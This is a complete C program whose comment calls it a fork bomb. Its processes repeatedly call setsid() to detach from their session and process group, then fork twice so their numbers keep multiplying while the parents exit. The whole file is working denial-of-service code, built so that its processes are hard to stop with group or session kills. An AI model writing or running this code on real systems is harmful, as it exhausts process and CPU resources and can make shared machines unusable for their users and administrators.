/* A fork bomb whose processes leave session and group, and end as soon as they have multiplied. */
#include <stdlib.h>
#include <unistd.h>

int main(void)
{
    for (;;) {
        setsid();
        if (fork() > 0 && fork() > 0)
            exit(0);
    }
}
